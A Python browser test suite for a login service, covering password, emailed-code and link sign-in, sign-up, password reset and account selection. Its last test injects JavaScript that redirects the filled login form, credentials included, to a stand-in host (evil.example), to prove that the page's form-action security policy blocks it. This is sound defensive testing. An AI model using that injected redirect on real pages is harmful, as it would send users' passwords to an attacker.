"""Signing in and up in a real browser, with JavaScript and without: from the app, over every page, back to the app."""

import secrets

from code_flow import REDIRECT_URI
from login_house import PASSWORD, Account
from wait import wait_for
from walks import at_sign_in, signed_in

FRESH = "a quite different phrase 9"


def passwordless(house, **organization):
    return Account(house, password=None, log_in_with_password=False, **organization)


def test_a_password_leads_back_to_the_app(house, account, tab):
    at_sign_in(house, tab, state="with spaces & signs")
    tab.submit(username=account.email, password="wrong")
    assert "is not right" in tab.page.text and tab.value('[name="username"]') == account.email
    tab.submit(password=PASSWORD)
    assert house.is_back(tab), tab.page
    assert house.claims(tab)["amr"] == ["pwd"]


def test_a_second_request_needs_no_page(house, account, tab):
    signed_in(house, tab, account)
    tab.go(house.app.link())
    assert house.is_back(tab)


def test_a_code_by_mail_signs_in(house, mailbox, tab):
    account = passwordless(house)
    at_sign_in(house, tab)
    tab.submit("email_code", username=account.email)
    tab.submit(code="000000")
    assert "is not right" in tab.page.text
    code = mailbox.wait_for(account.email).code
    tab.submit(code=f"{code[:3]} {code[3:]}")
    assert house.is_back(tab), tab.page


def test_the_link_of_the_mail_signs_in_where_it_was_asked_for(house, mailbox, tab, open_tab):
    account = passwordless(house)
    at_sign_in(house, tab)
    tab.submit("email_code", username=account.email)
    link = mailbox.wait_for(account.email).link
    elsewhere = open_tab()
    elsewhere.go(link)
    assert elsewhere.page.status == 400 and "another browser" in elsewhere.page.text
    tab.go(link)
    assert house.is_back(tab), tab.page


def test_somebody_new_founds_an_organization(open_house, mailbox, tab):
    address = f"n{secrets.token_hex(6)}@example.com"
    tab.go(open_house.app.link())
    tab.press('a[href*="sign_up"]')
    tab.submit(username=address)
    tab.submit(code=mailbox.wait_for(address).code)
    tab.submit(name="Acme & Söhne")
    tab.submit(new_password="password1", new_password_again="password1")
    assert "easy to guess" in tab.page.text
    tab.submit(new_password=FRESH, new_password_again=FRESH)
    assert open_house.is_back(tab), tab.page
    found = open_house.rows("SELECT u.owner, o.display_name FROM tessera.users u JOIN tessera.organizations o USING (project_id, organization_id) "
                            "WHERE u.email = %s", [address])
    assert found == [(True, "Acme & Söhne")]


def test_a_forgotten_password_is_replaced(house, account, mailbox, tab):
    at_sign_in(house, tab)
    tab.press('a[href*="forgot"]')
    tab.submit(username=account.email)
    tab.submit(code=mailbox.wait_for(account.email).code)
    tab.submit(new_password=FRESH, new_password_again=FRESH)
    assert house.is_back(tab), tab.page
    again = at_sign_in(house, tab, prompt="login")
    again.submit(password=PASSWORD)
    assert "is not right" in tab.page.text
    tab.submit(password=FRESH)
    assert house.is_back(tab)


def test_who_belongs_to_two_organizations_chooses_one(house, mailbox, tab):
    first = passwordless(house)
    second = passwordless(house)
    house.oauth.execute("UPDATE tessera.users SET email = %s WHERE user_id = %s", [first.email, str(second.user)])
    house.oauth.execute("UPDATE tessera.organizations SET display_name = 'Zweigwerk' WHERE organization_id = %s", [str(second.organization)])
    at_sign_in(house, tab)
    tab.submit("email_code", username=first.email)
    tab.submit(code=mailbox.wait_for(first.email).code)
    assert "Acme" in tab.page.text
    tab.press('button[name="choice"]:has-text("Zweigwerk")')
    assert house.is_back(tab), tab.page
    assert house.claims(tab)["sub"] == second.id


def test_the_browsers_person_is_offered_and_somebody_else_may_be_it(house, account, tab):
    signed_in(house, tab, account)
    tab.go(house.app.link(prompt="select_account"))
    tab.press(f'button[name="choice"]:has-text("{account.email}")')
    assert house.is_back(tab) and house.claims(tab)["sub"] == account.id
    other = Account(house)
    tab.go(house.app.link(prompt="select_account"))
    tab.submit("another")
    tab.submit(username=other.email, password=PASSWORD)
    assert house.is_back(tab) and house.claims(tab)["sub"] == other.id


def test_the_back_button_after_the_end_leads_to_a_page_that_says_so(house, account, tab):
    signed_in(house, tab, account)
    tab.back()
    assert tab.page.status == 400 and "answered already" in tab.page.text


def test_a_form_sent_twice_at_once_signs_in_once(house, account, scripted):
    at_sign_in(house, scripted)
    scripted.fill(username=account.email, password=PASSWORD)
    scripted.ask("evaluate", script="(() => { const button = document.getElementById('submit'); button.click(); button.click(); })()")
    scripted.arrive(REDIRECT_URI)
    assert house.sessions(account) == 1


# What the page's security policy is for; and the proof that this suite would see it broken.
def test_a_form_bent_to_another_site_is_not_sent(house, account, scripted):
    at_sign_in(house, scripted)
    scripted.fill(username=account.email, password=PASSWORD)
    scripted.ask("evaluate", script="document.getElementById('main').action = 'https://evil.example/'")
    scripted.ask("evaluate", script="document.getElementById('submit').click()")
    (said,) = wait_for("the browser to complain", scripted.wrong)
    assert "form-action" in said and "/login" in scripted.ask("state")["url"]
